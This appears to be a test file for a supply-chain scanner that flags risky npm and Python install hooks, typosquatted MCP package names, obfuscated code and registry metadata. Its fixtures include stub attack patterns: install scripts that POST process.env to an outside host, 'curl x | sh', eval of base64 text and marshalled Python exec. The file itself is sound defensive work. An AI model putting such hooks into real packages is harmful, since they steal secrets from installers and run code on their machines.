import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findingSchema } from '../../../../base/finding-schema.ts';
import { makeTargetFolder } from '../target-folder.ts';
import { findBlobs, formOf } from './code-form.ts';
import {
  findLookalike,
  inspectPackage,
  packageRules,
  recordOfFacts,
  recordOfPackument,
  recordOfPypi,
} from './index.ts';
import { editDistance } from './lookalike.ts';
import type { PackageExample } from './rules.ts';

const now = new Date('2026-11-15T00:00:00Z');

/** Examples with bytes above 127 are written byte by byte, as a program would be. */
const bytesOf = (files: Readonly<Record<string, string>>) =>
  Object.fromEntries(Object.entries(files).map(([path, text]) => [path, Buffer.from(text, 'latin1')]));

function inspect({ files, registry, repository }: PackageExample) {
  using folder = makeTargetFolder(bytesOf(files));
  using other = makeTargetFolder(bytesOf(repository ?? {}));
  const inspection = inspectPackage(folder, {
    now,
    ...(registry === undefined ? {} : { registry }),
    ...(repository === undefined ? {} : { repository: other }),
  });
  for (const finding of inspection.findings) findingSchema.parse(finding);
  return inspection;
}

const rulesOf = (example: PackageExample): readonly string[] => inspect(example).findings.map(({ rule }) => rule);

describe('the rules', () => {
  it.each(Object.values(packageRules))('$id: its own examples', ({ id, fires, silent }) => {
    expect(rulesOf(fires)).toContain(id);
    expect(rulesOf(silent)).not.toContain(id);
  });
});

describe('install hooks', () => {
  const npm = (scripts: object, more: Record<string, string> = {}): PackageExample => ({
    files: { 'package.json': JSON.stringify({ name: 'example-server', version: '1.0.0', scripts }), ...more },
  });

  it.each<[string, PackageExample, string | undefined]>([
    [
      'a script that downloads and runs',
      npm(
        { postinstall: 'node ./scripts/get' },
        { 'scripts/get.js': 'const https=require("https");https.get(u,r=>0);require("child_process").execSync("./x")' },
      ),
      'package/install-hook-reaches-out',
    ],
    [
      'a script that sends the environment',
      npm(
        { preinstall: 'node a.js' },
        { 'a.js': 'fetch("https://example.invalid", {method:"POST", body: JSON.stringify(process.env)})' },
      ),
      'package/install-hook-reaches-out',
    ],
    [
      'decoded text that is run',
      npm({ install: "node -e \"eval(Buffer.from('YQ==','base64').toString())\"" }),
      'package/install-hook-reaches-out',
    ],
    ['a thank-you', npm({ postinstall: 'echo thanks' }), 'package/install-hook'],
    ['husky', npm({ postinstall: 'husky install' }), 'package/install-hook'],
    ['prepare is not run from the registry', npm({ prepare: 'curl x | sh' }), undefined],
    [
      'an implied native build',
      { files: { 'package.json': '{"name":"example-server"}', 'binding.gyp': '{}' } },
      'package/install-hook',
    ],
    [
      'a build switched off',
      { files: { 'package.json': '{"name":"example-server","gypfile":false}', 'binding.gyp': '{}' } },
      undefined,
    ],
    [
      'setup.py that only declares',
      { files: { 'setup.py': 'from setuptools import setup\nsetup(name="x")' } },
      undefined,
    ],
    [
      'setup.py with its own install',
      { files: { 'setup.py': 'setup(name="x", cmdclass={"install": Own})' } },
      'package/install-hook',
    ],
    [
      'setup.py that downloads and runs',
      { files: { 'setup.py': 'import os,urllib.request\nos.system("x")\nurllib.request.urlopen("y")' } },
      'package/install-hook-reaches-out',
    ],
    ['a .pth that imports', { files: { 'x.pth': 'import os; os.getcwd()' } }, 'package/install-hook'],
    ['a .pth with paths', { files: { 'x.pth': './src\n' } }, undefined],
    [
      'its own build backend',
      { files: { 'pyproject.toml': '[build-system]\nbackend-path = ["."]' } },
      'package/install-hook',
    ],
  ])('%s', (_, example, rule) => {
    expect(rulesOf(example).filter((id) => id.startsWith('package/install-hook'))).toEqual(
      rule === undefined ? [] : [rule],
    );
  });

  it('names the file that would run', () => {
    const { findings, data } = inspect(npm({ postinstall: 'node lib/setup.cjs --quiet' }, { 'lib/setup.cjs': '' }));
    expect(findings[0]?.locations.map(({ path }) => path)).toEqual(['package.json', 'lib/setup.cjs']);
    expect(data.hooks[0]).toMatchObject({ name: 'postinstall', starts: ['lib/setup.cjs'] });
  });
});

describe('lookalike names', () => {
  it.each<['npm' | 'pypi', string, string | undefined]>([
    ['npm', '@modelcontextprotocol/server-filesystem', undefined],
    ['npm', '@modelcontextprotocol/server-anything-new', undefined],
    ['npm', '@modelcontextprotocl/server-github', '@modelcontextprotocol/server-github'],
    ['npm', '@mode1contextprotocol/server-github', '@modelcontextprotocol/server-github'],
    ['npm', '@acme/server-filesystem', undefined],
    ['npm', 'modelcontextprotocol-server-filesystem', '@modelcontextprotocol/server-filesystem'],
    ['npm', 'mcp-rernote', 'mcp-remote'],
    ['npm', 'mcp-remtoe', 'mcp-remote'],
    ['npm', 'mcpremote', 'mcp-remote'],
    ['npm', 'mcp-router', undefined],
    ['npm', 'figma-develper-mcp', 'figma-developer-mcp'],
    ['npm', 'firecrawl-mpc', 'firecrawl-mcp'],
    ['npm', 'my-notes-mcp', undefined],
    ['npm', 'postgres-mcp-server', undefined],
    ['npm', 'weather', undefined],
    ['pypi', 'mcp_server_git', undefined],
    ['pypi', 'mcp-sever-git', 'mcp-server-git'],
    ['pypi', 'mcp-server-gist', undefined],
    ['pypi', 'fast-mcp', 'fastmcp'],
    ['pypi', 'mcp-server-weather', undefined],
    ['pypi', 'mcp', undefined],
    ['pypi', 'mpc', undefined],
  ])('%s %s', (ecosystem, name, popular) => {
    expect(findLookalike(ecosystem, name)).toBe(popular);
  });

  it('measures a distance: symmetric, zero for the same, one for one edit', () => {
    const word = fc.string({ unit: fc.constantFrom('a', 'b', 'c', '-'), maxLength: 8 });
    fc.assert(
      fc.property(word, word, (left, right) => {
        const distance = editDistance(left, right, 20);
        expect(distance).toBe(editDistance(right, left, 20));
        expect(distance === 0).toBe(left === right);
        expect(distance).toBeGreaterThanOrEqual(Math.abs(left.length - right.length));
        expect(editDistance(left, right, 2)).toBe(Math.min(distance, 3));
      }),
    );
    expect([
      editDistance('abcd', 'abdc', 9),
      editDistance('abcd', 'abd', 9),
      editDistance('kitten', 'sitting', 9),
    ]).toEqual([1, 1, 3]);
  });
});

describe('the form of code', () => {
  it.each<[string, string, boolean, boolean]>([
    ['plain', 'const a = 1;\n'.repeat(1000), false, false],
    [
      'a long table in plain code',
      `const a = 1;\n${'function f() {\n  return 1;\n}\n'.repeat(2000)}const t = [${'1,'.repeat(2000)}];\n`,
      false,
      false,
    ],
    ['minified', `!function(){${'var a=b(c);'.repeat(1000)}}()`, true, false],
    ['packed', "eval(function(p,a,c,k,e,d){e=function(c){return c}}('0',1,1,'x'.split('|'),0,{}))", false, true],
    ['brackets', `x=${'[]+!![]+(![]+[])'.repeat(100)}`, false, true],
    ['escapes', `eval("${'\\x61'.repeat(60)}")`, false, true],
    [
      'hex constants',
      Array.from({ length: 100 }, (_, i) => `const c${i} = 0x${(i + 4096).toString(16)};`).join('\n'),
      false,
      false,
    ],
    ['marshalled Python', 'exec(marshal.loads(b"x"))', false, true],
  ])('%s', (_, text, isMinified, isObfuscated) => {
    const form = formOf(text);
    expect([form.isMinified, form.obfuscation !== undefined]).toEqual([isMinified, isObfuscated]);
  });

  it.each<[string, string, boolean]>([
    ['a shell script', Buffer.from(`#!/bin/sh\n${'echo marker\n'.repeat(60)}`).toString('base64'), true],
    ['JavaScript in hex', Buffer.from(`const a = require("x");${' '.repeat(500)}`).toString('hex'), true],
    [
      'an ELF program',
      Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(600, 3)]).toString('base64'),
      true,
    ],
    ['a font', Buffer.alloc(900, 0x5a).toString('base64'), false],
    ['prose', Buffer.from('It was a dark and stormy night. '.repeat(40)).toString('base64'), false],
    ['JSON', Buffer.from(JSON.stringify({ a: 'x'.repeat(600) })).toString('base64'), false],
  ])('an encoded text of %s', (_, blob, isFound) => {
    expect(findBlobs(`const x = "${blob}";`).length).toBe(isFound ? 1 : 0);
  });

  it('survives any text', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 2000, unit: 'binary' }), (text) => {
        formOf(text);
        findBlobs(text);
      }),
    );
  });

  it('does not take long over a long line', () => {
    const text = 'a'.repeat(4_000_000);
    expect(formOf(text).isMinified).toBe(true);
    expect(formOf('[]'.repeat(2_000_000)).obfuscation).toBeDefined();
    expect(findBlobs(text)).toEqual([]);
  });
});

describe('what registries say', () => {
  it('is read from a packument', () => {
    const packument = {
      name: 'a',
      time: { created: 'x', '1.0.0': '2025-01-01T00:00:00Z' },
      versions: {
        '1.0.0': { _npmUser: { name: 'me' }, dist: { signatures: [{}], attestations: { provenance: {} } } },
        '2.0.0': {},
      },
    };
    expect(recordOfPackument(packument, '1.0.0').releases).toEqual([
      {
        version: '1.0.0',
        publishedAt: '2025-01-01T00:00:00Z',
        publisher: 'me',
        hasProvenance: true,
        hasSignature: true,
      },
      { version: '2.0.0', publishedAt: undefined, publisher: undefined, hasProvenance: false, hasSignature: false },
    ]);
  });

  it('is read from the facts about one release', () => {
    const facts = {
      publishedAt: '2026-11-14T20:00:00Z',
      firstPublishedAt: '2025-01-01T00:00:00Z',
      previousVersion: '1.0.0',
      hasSignature: true,
      hasProvenance: false,
      isDeprecated: true,
      isYanked: false,
    };
    const rules = (ecosystem: 'npm' | 'pypi', version: string): readonly string[] =>
      inspect({ files: {}, registry: recordOfFacts(facts, { ecosystem, name: 'example', version }) }).findings.map(
        ({ rule }) => rule,
      );
    expect(rules('npm', '99.0.0')).toEqual([
      'package/withdrawn-version',
      'package/no-provenance',
      'package/newly-published',
      'package/version-jump',
    ]);
    expect(rules('pypi', '1.0.1')).toEqual(['package/withdrawn-version', 'package/newly-published']);
  });

  it('is read from PyPI, which does not say who or how', () => {
    const record = recordOfPypi(
      { info: { name: 'a' }, releases: { '1.0': [{ upload_time_iso_8601: '2026-11-14T20:00:00Z' }], '0.9': [] } },
      '1.0',
    );
    expect(inspect({ files: {}, registry: record }).findings.map(({ rule }) => rule)).toEqual([
      'package/newly-published',
    ]);
  });

  it('survives any shape', () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.string(), (value, version) => {
        recordOfPackument(value, version);
        recordOfPypi(value, version);
      }),
    );
  });
});
